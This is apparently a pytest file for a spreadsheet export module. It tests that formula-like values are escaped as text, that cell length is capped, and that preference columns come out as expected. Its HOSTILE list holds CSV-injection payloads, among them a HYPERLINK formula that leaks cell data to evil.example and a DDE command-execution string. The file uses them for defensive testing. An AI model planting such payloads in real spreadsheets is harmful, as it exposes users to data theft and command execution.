"""Rows for a spreadsheet: nothing in it runs, and what does not fit says so."""

from __future__ import annotations

import csv
import io

import pytest

from curation.exports.spreadsheet import COLUMNS, MOST, cell, head, line
from tests.curation.exports.rows import message, row, tied

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "  =1", "＝1", "＋1", "－1", "＠1", '=1"",=2',
]  # fmt: skip


def read(*lines: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(lines).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_looks_like_a_formula_is_text(text: str) -> None:
    made = row("c", completion_a=[message(text)], generator_a=text, metadata={"k": text})
    (told,) = read(head(), line(made))
    assert told["completion_a"] == told["generator_a"] == "'" + text
    assert not [value for value in told.values() if value.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", ["plain", "a = b", 'say "x", then\nnext line', "日本", "5-3", ""])
def test_other_texts_stay_as_they_are(text: str) -> None:
    (told,) = read(head(), line(row("c", completion_a=[message(text)])))
    assert told["completion_a"] == text


def test_a_cell_is_never_longer_than_a_spreadsheet_holds() -> None:
    for text in ("x" * 1_000_000, "=" * 1_000_000, "x" * MOST):
        assert len(cell(text)) <= MOST
    assert cell("x" * 1_000_000).endswith("… (cut: 1,000,000 characters)")
    assert cell("x" * MOST) == "x" * MOST


def test_every_row_says_what_is_preferred() -> None:
    told = read(head(), line(row("c")), line(tied("t", "tie")), line(tied("u", "both_bad")))
    assert [each["preferred"] for each in told] == ["a", "tie", "both_bad"]
    assert tuple(told[0]) == COLUMNS
    assert told[0]["preference"] == "-1.6"  # a number, not a formula
